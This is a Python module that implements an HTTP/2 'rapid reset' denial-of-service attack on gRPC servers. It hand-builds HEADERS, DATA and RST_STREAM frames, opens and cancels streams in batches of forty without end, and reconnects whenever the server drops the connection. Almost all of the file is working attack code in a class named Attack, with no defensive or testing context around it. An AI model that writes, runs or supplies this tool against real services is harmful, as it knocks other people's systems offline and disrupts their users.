"""HTTP/2 frames as a hostile client writes them, without a library that would keep the rules."""

import contextlib
import select
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_CANCEL: Final = struct.pack(">I", 8)
_EMPTY_MESSAGE: Final = bytes(5)
# Given up one by one, most would be gone before the server has looked.
_TOGETHER: Final = 40
_LAST_STREAM: Final = (1 << 31) - 1
_SECONDS: Final = 30.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(path: str, authority: str) -> bytes:
    """Return the headers of a gRPC call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": authority,
        "te": "trailers",
        "content-type": "application/grpc",
        "grpc-timeout": "20S",
    }
    # Each a literal field without indexing, so that a block is the same whatever was sent before.
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())


def begun_and_reset(block: bytes) -> Iterator[bytes]:
    """Yield what begins some calls, each whole, and gives all of them up; then the next, for ever."""
    for first in range(1, _LAST_STREAM, 2 * _TOGETHER):
        streams = range(first, first + 2 * _TOGETHER, 2)
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, _EMPTY_MESSAGE)
            for stream in streams
        )
        yield b"".join(frame(_RST_STREAM, 0, stream, _CANCEL) for stream in streams)


@dataclass
class Attack:
    """Rapid reset: begins and resets calls until it is told to end. Blocks: call `run` in a thread."""

    address: str
    path: str
    over: threading.Event
    resets: int = 0
    connections: int = 0

    def run(self) -> None:
        """Attack; a connection that the server ends is followed by another."""
        while not self.over.is_set():
            # Whatever the server does to defend itself is its right.
            with contextlib.suppress(ConnectionError, TimeoutError):
                self._connect()

    def _connect(self) -> None:
        host, _, port = self.address.rpartition(":")
        with socket.create_connection((host, int(port)), timeout=_SECONDS) as opened:
            self.connections += 1
            opened.sendall(_PREFACE + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, _ACK, 0))
            for count, data in enumerate(begun_and_reset(headers(self.path, self.address))):
                if self.over.is_set():
                    return
                opened.sendall(data)
                self.resets += _TOGETHER * (count % 2)
                _thrown_away(opened)


def _thrown_away(opened: socket.socket) -> None:
    """Read what has come, so that the server never waits for this client."""
    while select.select([opened], [], [], 0)[0]:
        if not opened.recv(1 << 16):
            raise ConnectionResetError


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode("ascii")
